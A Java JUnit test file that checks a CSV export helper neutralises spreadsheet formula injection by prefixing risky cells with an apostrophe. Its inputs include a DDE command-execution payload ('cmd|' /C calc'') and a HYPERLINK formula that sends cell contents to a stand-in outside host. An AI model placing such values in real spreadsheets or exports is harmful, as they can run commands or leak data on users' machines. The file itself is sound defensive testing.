package org.daywatch.platform.web;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a spreadsheet would count is kept apart, and a number stays one. A-32 of docs/security. */
class CsvTest {

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  @A1",
            "=HYPERLINK(\"https://elsewhere.example/?\"&A1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "＝1+1",
            "＋1", "－1+1", "＠A1", "+1 480 555 0100", "-", "=", "--1", "-1e5", "-1,000,000.00x"})
    void aFormulaIsKeptApart(String cell) {
        assertThat(Csv.cell(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "-1", "-17.50", "-17,5", "42", "a=b", "Kit-Lee", "kit@story.example", "’=1", "'=1+1",
            "\"=1+1", "#1", "– none"})
    void aNumberAndAWordStayAsTheyAre(String cell) {
        assertThat(Csv.cell(cell)).isEqualTo(cell);
    }
}
